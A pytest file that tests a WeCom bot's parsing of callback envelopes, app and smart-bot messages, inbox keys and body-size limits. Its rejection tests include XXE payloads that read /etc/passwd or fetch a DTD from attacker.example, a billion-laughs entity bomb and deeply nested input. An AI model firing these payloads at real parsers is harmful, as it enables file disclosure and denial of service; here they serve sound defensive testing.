"""Tests of `bot.parsing`: envelopes, app XML, smart-bot JSON, inbox keys, body size.

The XML samples are shaped like what WeCom actually sends (CDATA around every string field,
bare numbers), per the platform notes §2 and the WeCom callback docs.
"""

from __future__ import annotations

import hashlib
import json
from typing import Any

import pytest

from bot.errors import CallbackError, MalformedMessage, MalformedRequest, PayloadTooLarge
from bot.events import (
    AibotEvent,
    AibotText,
    AppTextMessage,
    ExternalChatChange,
    MsgAuditNotify,
    UnknownEvent,
)
from bot.parsing import (
    MAX_ID_LENGTH,
    check_body_size,
    inbox_key,
    parse_aibot_envelope,
    parse_aibot_message,
    parse_app_envelope,
    parse_app_message,
)

CORP_ID = "ww0123456789abcdef"
CHAT_ID = "wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA"
ENCRYPTED = (  # a real-looking Encrypt value: base64 with "+", "/" and "=" padding
    "UJ2kIJN46wHbRhio87Aapsb5LRXpQhDQ2rtM+YIHSQTyy67YwpqqB/kNSzff+bQ9GV8k7A+ndXdZg1K+"
    "1gtDIdJI2kV844Hh5VX7cJM9g04k/mC0TdkHIzSQpuzk96hOMhX4hrsKhAtvRArcXusvFGEwWG+j4/Sx"
    "9rdgixwuUazLdeCEHlzgcF2vCP5S4g1fhMx+jhL4PPTFcAamo7HKMGppQQKs75jxDN//zhfgTmQ/EzJV"
    "A6zRgFEOK9wYAO+gtG4hsb7DpFI3/plWXTMxCgtYpnH/5FEhuMNs/BtS4KNOxTVb41tAHA=="
)

# --------------------------------------------------------------------------- envelopes


def app_body(encrypted: str = ENCRYPTED) -> bytes:
    return (
        f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
        f"<Encrypt><![CDATA[{encrypted}]]></Encrypt>"
        "<AgentID><![CDATA[1000002]]></AgentID></xml>"
    ).encode()


@pytest.mark.parametrize(
    "body",
    [
        app_body(),
        app_body(f"\n  {ENCRYPTED}\t"),
        f"<xml><Encrypt>{ENCRYPTED}</Encrypt></xml>".encode(),  # no CDATA
        b'<?xml version="1.0" encoding="UTF-8"?>' + app_body(),
        b"\xef\xbb\xbf" + app_body(),  # UTF-8 BOM
        f"<xml>\n  <Encrypt><![CDATA[{ENCRYPTED}]]></Encrypt>\n</xml>\n".encode(),
    ],
    ids=["wecom", "whitespace-inside", "no-cdata", "xml-decl", "bom", "pretty"],
)
def test_app_envelope_valid(body: bytes) -> None:
    assert parse_app_envelope(body) == ENCRYPTED


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    b"]><xml><Encrypt>&lol2;</Encrypt></xml>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<xml><Encrypt>&xxe;</Encrypt></xml>"
)
EXTERNAL_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">'
    b"<xml><Encrypt>abc</Encrypt></xml>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
    b"<xml><Encrypt>abc</Encrypt></xml>"
)
PLAIN_DTD = b"<!DOCTYPE xml><xml><Encrypt>abc</Encrypt></xml>"
DEEP_XML = b"<a>" * 100_000 + b"</a>" * 100_000

BAD_APP_ENVELOPES = {
    "empty": b"",
    "whitespace": b"   \n",
    "json": b'{"encrypt": "abc"}',
    "text": b"Encrypt=abc",
    "html": b"<html><body><Encrypt>abc</body></html>",
    "unclosed": b"<xml><Encrypt>abc</Encrypt>",
    "trailing-garbage": app_body() + b"<xml/>",
    "invalid-utf8": b"<xml><Encrypt>\xff\xfe</Encrypt></xml>",
    "gbk-declared": b'<?xml version="1.0" encoding="GBK"?><xml><Encrypt>a</Encrypt></xml>',
    "no-encrypt": f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName></xml>".encode(),
    "empty-encrypt": b"<xml><Encrypt></Encrypt></xml>",
    "empty-cdata-encrypt": b"<xml><Encrypt><![CDATA[]]></Encrypt></xml>",
    "blank-encrypt": b"<xml><Encrypt><![CDATA[  \n ]]></Encrypt></xml>",
    "self-closed-encrypt": b"<xml><Encrypt/></xml>",
    "nested-encrypt": b"<xml><Inner><Encrypt>abc</Encrypt></Inner></xml>",
    "lowercase-encrypt": b"<xml><encrypt>abc</encrypt></xml>",
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "external-dtd": EXTERNAL_DTD,
    "parameter-entity": PARAMETER_ENTITY,
    "plain-dtd": PLAIN_DTD,
    "deeply-nested": DEEP_XML,
}


@pytest.mark.parametrize("body", BAD_APP_ENVELOPES.values(), ids=BAD_APP_ENVELOPES.keys())
def test_app_envelope_malformed(body: bytes) -> None:
    with pytest.raises(CallbackError) as caught:
        parse_app_envelope(body)
    assert type(caught.value) is MalformedRequest
    assert caught.value.status == 400


@pytest.mark.parametrize(
    "body",
    [
        json.dumps({"encrypt": ENCRYPTED}).encode(),
        json.dumps({"encrypt": ENCRYPTED, "extra": [1, {"a": None}]}).encode(),
        b'\n  {"encrypt" : "' + ENCRYPTED.encode() + b'"}\n',
        b'\xef\xbb\xbf{"encrypt": "' + ENCRYPTED.encode() + b'"}',
    ],
    ids=["plain", "extra-keys", "whitespace", "bom"],
)
def test_aibot_envelope_valid(body: bytes) -> None:
    assert parse_aibot_envelope(body) == ENCRYPTED


BAD_AIBOT_ENVELOPES = {
    "empty": b"",
    "not-json": b"encrypt=abc",
    "xml": app_body(),
    "truncated": b'{"encrypt": "abc"',
    "invalid-utf8": b'{"encrypt": "\xff"}',
    "list": b'["abc"]',
    "string": b'"abc"',
    "number": b"42",
    "null": b"null",
    "nan": b"NaN",
    "missing": b"{}",
    "other-key": b'{"Encrypt": "abc"}',
    "encrypt-null": b'{"encrypt": null}',
    "encrypt-number": b'{"encrypt": 5}',
    "encrypt-list": b'{"encrypt": ["abc"]}',
    "encrypt-object": b'{"encrypt": {"v": "abc"}}',
    "encrypt-empty": b'{"encrypt": ""}',
    "two-documents": b'{"encrypt": "abc"} {}',
    "deep-list": b"[" * 100_000 + b"]" * 100_000,
    "deep-object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep-inside-valid": b'{"encrypt": "abc", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "huge-int": b'{"encrypt": "abc", "n": ' + b"1" * 5000 + b"}",
}


@pytest.mark.parametrize("body", BAD_AIBOT_ENVELOPES.values(), ids=BAD_AIBOT_ENVELOPES.keys())
def test_aibot_envelope_malformed(body: bytes) -> None:
    with pytest.raises(CallbackError) as caught:
        parse_aibot_envelope(body)
    assert type(caught.value) is MalformedRequest


# --------------------------------------------------------------------------- app messages


def app_text_xml(msg_id: str | None = "7234567890123456789", content: str = "加微信领红包") -> str:
    msg_id_xml = "" if msg_id is None else f"<MsgId>{msg_id}</MsgId>"
    return (
        f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
        "<FromUserName><![CDATA[zhangsan]]></FromUserName>"
        "<CreateTime>1700000000</CreateTime>"
        "<MsgType><![CDATA[text]]></MsgType>"
        f"<Content><![CDATA[{content}]]></Content>"
        f"{msg_id_xml}"
        "<AgentID>1000002</AgentID></xml>"
    )


def test_app_text_message_all_fields() -> None:
    assert parse_app_message(app_text_xml()) == AppTextMessage(
        msg_id="7234567890123456789",
        from_user="zhangsan",
        corp_id=CORP_ID,
        agent_id="1000002",
        create_time=1_700_000_000,
        content="加微信领红包",
    )


def test_app_text_message_keeps_markup_and_newlines_in_content() -> None:
    content = "第一行 <b>&amp;</b>\n第二行 ]] > 微信"
    event = parse_app_message(app_text_xml(content=content))
    assert isinstance(event, AppTextMessage)
    assert event.content == content


@pytest.mark.parametrize(
    "msg_id",
    [None, "", "   ", "1" * (MAX_ID_LENGTH + 1), "x" * 10_000],
    ids=["missing", "empty", "blank", "129-chars", "10000-chars"],
)
def test_app_text_message_bad_msg_id(msg_id: str | None) -> None:
    with pytest.raises(CallbackError) as caught:
        parse_app_message(app_text_xml(msg_id=msg_id))
    assert type(caught.value) is MalformedMessage


def test_app_text_message_msg_id_at_limit_is_accepted() -> None:
    event = parse_app_message(app_text_xml(msg_id="9" * MAX_ID_LENGTH))
    assert isinstance(event, AppTextMessage)
    assert event.msg_id == "9" * MAX_ID_LENGTH


def external_chat_xml(
    *,
    change_type: str = "update",
    detail: str = "add_member",
    members: list[str] | None = None,
    join_scene: str | None = "3",
    quit_scene: str | None = "0",
    mem_change_cnt: str | None = None,
) -> str:
    def numeric(tag: str, value: str | None) -> str:
        return "" if value is None else f"<{tag}>{value}</{tag}>"

    member_list = ""
    if members is not None:
        items = "".join(f"<Item><![CDATA[{member}]]></Item>" for member in members)
        member_list = f"<MemChangeList>{items}</MemChangeList>"
        if mem_change_cnt is None:
            mem_change_cnt = str(len(members))
    detail_xml = f"<UpdateDetail><![CDATA[{detail}]]></UpdateDetail>" if detail else ""
    return (
        f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
        "<FromUserName><![CDATA[sys]]></FromUserName>"
        "<CreateTime>1700000100</CreateTime>"
        "<MsgType><![CDATA[event]]></MsgType>"
        "<Event><![CDATA[change_external_chat]]></Event>"
        f"<ChatId><![CDATA[{CHAT_ID}]]></ChatId>"
        f"<ChangeType><![CDATA[{change_type}]]></ChangeType>"
        f"{detail_xml}"
        f"{numeric('JoinScene', join_scene)}"
        f"{numeric('QuitScene', quit_scene)}"
        f"{numeric('MemChangeCnt', mem_change_cnt)}"
        f"{member_list}"
        "<LastMemVer><![CDATA[9c3f6b0b3c5c4e0b]]></LastMemVer>"
        "<CurMemVer><![CDATA[71217227bbd112ec]]></CurMemVer></xml>"
    )


def test_external_chat_single_item() -> None:
    """A single <Item> must still give a tuple of one member (not a string)."""
    event = parse_app_message(external_chat_xml(members=["wmEXTERNAL0001"]))
    assert event == ExternalChatChange(
        chat_id=CHAT_ID,
        change_type="update",
        update_detail="add_member",
        join_scene=3,
        quit_scene=0,
        mem_change_cnt=1,
        members=("wmEXTERNAL0001",),
        last_mem_ver="9c3f6b0b3c5c4e0b",
        cur_mem_ver="71217227bbd112ec",
        create_time=1_700_000_100,
    )


def test_external_chat_several_items_keep_order() -> None:
    members = ["wmEXTERNAL0001", "zhangsan", "wbBOT0001", "wo0000external"]
    event = parse_app_message(
        external_chat_xml(detail="del_member", members=members, join_scene=None, quit_scene="1")
    )
    assert isinstance(event, ExternalChatChange)
    assert event.members == tuple(members)
    assert event.mem_change_cnt == 4
    assert event.update_detail == "del_member"
    assert event.quit_scene == 1
    assert event.join_scene is None


def test_external_chat_blank_items_are_dropped() -> None:
    xml = external_chat_xml(members=["a", " ", "", "b"], mem_change_cnt="2")
    event = parse_app_message(xml)
    assert isinstance(event, ExternalChatChange)
    assert event.members == ("a", "b")


def test_external_chat_missing_numeric_fields_are_none() -> None:
    event = parse_app_message(
        external_chat_xml(change_type="create", detail="", join_scene=None, quit_scene=None)
    )
    assert isinstance(event, ExternalChatChange)
    assert event.change_type == "create"
    assert event.update_detail == ""
    assert (event.join_scene, event.quit_scene, event.mem_change_cnt) == (None, None, None)
    assert event.members == ()


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("3", 3),
        (" 0 ", 0),
        ("", None),
        ("abc", None),
        ("3.0", None),
        ("0x3", None),
        ("9" * 5000, None),  # over Python's int-from-str digit limit: still no crash
    ],
    ids=["three", "padded-zero", "empty", "letters", "decimal", "hex", "5000-digits"],
)
def test_external_chat_join_scene_parsing(raw: str, expected: int | None) -> None:
    event = parse_app_message(external_chat_xml(members=["a"], join_scene=raw))
    assert isinstance(event, ExternalChatChange)
    assert event.join_scene == expected


def test_external_chat_dismiss_without_member_list() -> None:
    event = parse_app_message(
        external_chat_xml(change_type="dismiss", detail="", join_scene=None, quit_scene=None)
    )
    assert isinstance(event, ExternalChatChange)
    assert event.change_type == "dismiss"
    assert event.members == ()
    assert event.chat_id == CHAT_ID


def test_external_chat_bad_create_time_is_zero() -> None:
    xml = external_chat_xml(members=["a"]).replace("1700000100", "yesterday")
    event = parse_app_message(xml)
    assert isinstance(event, ExternalChatChange)
    assert event.create_time == 0


def test_msgaudit_notify() -> None:
    xml = (
        f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
        "<FromUserName><![CDATA[sys]]></FromUserName>"
        "<CreateTime>1700000200</CreateTime>"
        "<MsgType><![CDATA[event]]></MsgType>"
        "<AgentID>2000003</AgentID>"
        "<Event><![CDATA[msgaudit_notify]]></Event></xml>"
    )
    assert parse_app_message(xml) == MsgAuditNotify(agent_id="2000003", create_time=1_700_000_200)


CHANGE_CONTACT = (
    f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
    "<FromUserName><![CDATA[sys]]></FromUserName>"
    "<CreateTime>1700000300</CreateTime>"
    "<MsgType><![CDATA[event]]></MsgType>"
    "<Event><![CDATA[change_contact]]></Event>"
    "<ChangeType><![CDATA[create_user]]></ChangeType>"
    "<UserID><![CDATA[lisi]]></UserID>"
    "<Name><![CDATA[李四]]></Name></xml>"
)
IMAGE_MESSAGE = (
    f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>"
    "<FromUserName><![CDATA[zhangsan]]></FromUserName>"
    "<CreateTime>1700000400</CreateTime>"
    "<MsgType><![CDATA[image]]></MsgType>"
    "<PicUrl><![CDATA[https://wework.qpic.cn/x.jpg]]></PicUrl>"
    "<MediaId><![CDATA[media-id-1]]></MediaId>"
    "<MsgId>7234567890123456790</MsgId><AgentID>1000002</AgentID></xml>"
)


@pytest.mark.parametrize(
    ("xml", "what", "kept"),
    [
        (CHANGE_CONTACT, "event:change_contact", {"UserID": "lisi", "Name": "李四"}),
        (
            IMAGE_MESSAGE,
            "msgtype:image",
            {"PicUrl": "https://wework.qpic.cn/x.jpg", "MediaId": "media-id-1"},
        ),
        ("<xml><MsgType>event</MsgType></xml>", "event:?", {"MsgType": "event"}),
        ("<xml><Content>hi</Content></xml>", "msgtype:?", {"Content": "hi"}),
    ],
    ids=["change_contact", "image", "event-without-name", "no-msgtype"],
)
def test_app_unknown_events(xml: str, what: str, kept: dict[str, str]) -> None:
    event = parse_app_message(xml)
    assert isinstance(event, UnknownEvent)
    assert event.source == "app"
    assert event.what == what
    for key, value in kept.items():
        assert event.raw[key] == value


BAD_APP_PLAINTEXTS = {
    "empty": "",
    "json": '{"msgtype": "text"}',
    "truncated": "<xml><MsgType>text</MsgType>",
    "billion-laughs": BILLION_LAUGHS.decode(),
    "external-entity": EXTERNAL_ENTITY.decode(),
    "plain-dtd": PLAIN_DTD.decode(),
}


@pytest.mark.parametrize("plaintext", BAD_APP_PLAINTEXTS.values(), ids=BAD_APP_PLAINTEXTS.keys())
def test_app_message_malformed(plaintext: str) -> None:
    with pytest.raises(CallbackError) as caught:
        parse_app_message(plaintext)
    assert type(caught.value) is MalformedMessage


# --------------------------------------------------------------------------- smart-bot messages


def aibot_json(**fields: Any) -> str:
    base: dict[str, Any] = {
        "msgid": "CAIQ16HMjQYY",
        "aibotid": "AIBOTID",
        "chatid": "wrOgAAAAchat1",
        "chattype": "group",
        "from": {"userid": "zhangsan"},
        "response_url": "https://qyapi.weixin.qq.com/cgi-bin/aibot/response?response_code=RC1",
        "msgtype": "text",
        "text": {"content": "@审核助手 加微信领红包"},
    }
    for key, value in fields.items():
        if value is ...:
            base.pop(key, None)
        else:
            base[key] = value
    return json.dumps(base, ensure_ascii=False)


def test_aibot_group_text() -> None:
    assert parse_aibot_message(aibot_json()) == AibotText(
        msg_id="CAIQ16HMjQYY",
        aibot_id="AIBOTID",
        chat_id="wrOgAAAAchat1",
        chat_type="group",
        from_user="zhangsan",
        response_url="https://qyapi.weixin.qq.com/cgi-bin/aibot/response?response_code=RC1",
        content="@审核助手 加微信领红包",
    )


def test_aibot_single_text_without_chatid() -> None:
    event = parse_aibot_message(aibot_json(chatid=..., chattype="single", text={"content": "hi"}))
    assert isinstance(event, AibotText)
    assert event.chat_id == ""
    assert event.chat_type == "single"
    assert event.content == "hi"


def test_aibot_missing_chattype_defaults_to_single() -> None:
    event = parse_aibot_message(aibot_json(chatid=..., chattype=...))
    assert isinstance(event, AibotText)
    assert event.chat_type == "single"


def test_aibot_event_enter_chat() -> None:
    plaintext = aibot_json(
        msgid="CAIQ3Zf8sgY",
        chatid=...,
        chattype="single",
        response_url=...,
        text=...,
        msgtype="event",
        event={"eventtype": "enter_chat"},
    )
    assert parse_aibot_message(plaintext) == AibotEvent(
        msg_id="CAIQ3Zf8sgY",
        aibot_id="AIBOTID",
        chat_id="",
        chat_type="single",
        from_user="zhangsan",
        event_type="enter_chat",
    )


def test_aibot_event_long_msgid_is_refused_not_cut_into_another_events_key() -> None:
    event = parse_aibot_message(
        aibot_json(msgid="e" * MAX_ID_LENGTH, msgtype="event", event={"eventtype": "x"})
    )
    assert isinstance(event, AibotEvent)
    assert event.msg_id == "e" * MAX_ID_LENGTH
    with pytest.raises(MalformedMessage):
        parse_aibot_message(aibot_json(msgid="e" * 500, msgtype="event", event={"eventtype": "x"}))


def test_aibot_image_is_unknown() -> None:
    plaintext = aibot_json(msgtype="image", text=..., image={"url": "https://x/y.jpg"})
    event = parse_aibot_message(plaintext)
    assert isinstance(event, UnknownEvent)
    assert event.source == "aibot"
    assert event.what == "msgtype:image"
    assert event.raw["image"] == {"url": "https://x/y.jpg"}
    assert event.raw["msgid"] == "CAIQ16HMjQYY"


@pytest.mark.parametrize(
    ("fields", "attribute", "expected"),
    [
        ({"from": "x"}, "from_user", ""),
        ({"from": ["zhangsan"]}, "from_user", ""),
        ({"from": {"userid": 42}}, "from_user", ""),
        ({"from": None}, "from_user", ""),
        ({"text": 5}, "content", ""),
        ({"text": "plain string"}, "content", ""),
        ({"text": {"content": ["a"]}}, "content", ""),
        ({"chatid": 123}, "chat_id", ""),
        ({"chattype": 1}, "chat_type", "single"),
        ({"aibotid": {"id": 1}}, "aibot_id", ""),
        ({"response_url": False}, "response_url", ""),
    ],
)
def test_aibot_wrong_json_types_do_not_crash(
    fields: dict[str, Any], attribute: str, expected: str
) -> None:
    event = parse_aibot_message(aibot_json(**fields))
    assert isinstance(event, AibotText)
    assert getattr(event, attribute) == expected


@pytest.mark.parametrize(
    ("fields", "what"),
    [({"msgtype": ["text"]}, "msgtype:?"), ({"msgtype": ...}, "msgtype:?")],
    ids=["list-msgtype", "missing-msgtype"],
)
def test_aibot_unusable_msgtype_is_unknown(fields: dict[str, Any], what: str) -> None:
    event = parse_aibot_message(aibot_json(**fields))
    assert isinstance(event, UnknownEvent)
    assert event.what == what


def test_aibot_event_with_non_object_event_field() -> None:
    event = parse_aibot_message(aibot_json(msgtype="event", event="enter_chat"))
    assert isinstance(event, AibotEvent)
    assert event.event_type == ""


@pytest.mark.parametrize(
    "plaintext",
    [
        aibot_json(msgid=...),
        aibot_json(msgid=""),
        aibot_json(msgid=12345),
        aibot_json(msgid="m" * (MAX_ID_LENGTH + 1)),
        "",
        "[]",
        '"text"',
        "not json",
        "[" * 100_000 + "]" * 100_000,
        '{"a":' * 100_000 + "1" + "}" * 100_000,
    ],
    ids=[
        "missing-msgid",
        "empty-msgid",
        "numeric-msgid",
        "long-msgid",
        "empty",
        "list",
        "string",
        "not-json",
        "deep-list",
        "deep-object",
    ],
)
def test_aibot_message_malformed(plaintext: str) -> None:
    with pytest.raises(CallbackError) as caught:
        parse_aibot_message(plaintext)
    assert type(caught.value) is MalformedMessage


# --------------------------------------------------------------------------- inbox keys


def sha256_hex(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def test_inbox_key_app_text_uses_msg_id() -> None:
    plaintext = app_text_xml(msg_id="7234567890123456789")
    event = parse_app_message(plaintext)
    assert inbox_key("app", event, plaintext) == "app:msg:7234567890123456789"
    other = app_text_xml(msg_id="7234567890123456789", content="different text, same id")
    assert inbox_key("app", parse_app_message(other), other) == "app:msg:7234567890123456789"


def test_inbox_key_aibot_text_uses_msgid() -> None:
    plaintext = aibot_json()
    assert inbox_key("aibot", parse_aibot_message(plaintext), plaintext) == "aibot:msg:CAIQ16HMjQYY"


def test_inbox_key_aibot_event_with_and_without_msgid() -> None:
    with_id = aibot_json(msgid="EV1", msgtype="event", event={"eventtype": "enter_chat"})
    assert inbox_key("aibot", parse_aibot_message(with_id), with_id) == "aibot:msg:EV1"
    without = aibot_json(msgid=..., msgtype="event", event={"eventtype": "enter_chat"})
    key = inbox_key("aibot", parse_aibot_message(without), without)
    assert key == f"aibot:sha256:{sha256_hex(without)}"


@pytest.mark.parametrize(
    "plaintext",
    [
        external_chat_xml(members=["wmEXTERNAL0001"]),
        CHANGE_CONTACT,
        IMAGE_MESSAGE,
        "<xml><MsgType>event</MsgType><Event>msgaudit_notify</Event><AgentID>1</AgentID></xml>",
    ],
    ids=["change_external_chat", "change_contact", "image", "msgaudit_notify"],
)
def test_inbox_key_system_events_hash_the_plaintext(plaintext: str) -> None:
    event = parse_app_message(plaintext)
    assert not isinstance(event, AppTextMessage)
    assert inbox_key("app", event, plaintext) == f"app:sha256:{sha256_hex(plaintext)}"
    # deterministic: the same plaintext (a WeCom retry) gives the same key
    assert inbox_key("app", parse_app_message(plaintext), plaintext) == inbox_key(
        "app", event, plaintext
    )


def test_inbox_key_system_events_differ_when_plaintext_differs() -> None:
    """Two events from `sys` in the same second with other members are distinct deliveries."""
    first = external_chat_xml(members=["wmEXTERNAL0001"])
    second = external_chat_xml(members=["wmEXTERNAL0002"])
    key_1 = inbox_key("app", parse_app_message(first), first)
    key_2 = inbox_key("app", parse_app_message(second), second)
    assert key_1 != key_2
    assert key_1.startswith("app:sha256:")
    assert key_2.startswith("app:sha256:")


def test_inbox_key_source_is_part_of_the_key() -> None:
    plaintext = "<xml><MsgType>event</MsgType><Event>x</Event></xml>"
    event = parse_app_message(plaintext)
    assert inbox_key("app", event, plaintext) != inbox_key("aibot", event, plaintext)


# --------------------------------------------------------------------------- body size


@pytest.mark.parametrize(("size", "limit"), [(0, 0), (0, 10), (10, 10), (9, 10)])
def test_check_body_size_accepts(size: int, limit: int) -> None:
    check_body_size(size, limit)


@pytest.mark.parametrize(("size", "limit"), [(11, 10), (1, 0), (1_000_001, 1_000_000)])
def test_check_body_size_refuses(size: int, limit: int) -> None:
    with pytest.raises(PayloadTooLarge) as caught:
        check_body_size(size, limit)
    assert caught.value.status == 413
    assert str(limit) in caught.value.reason
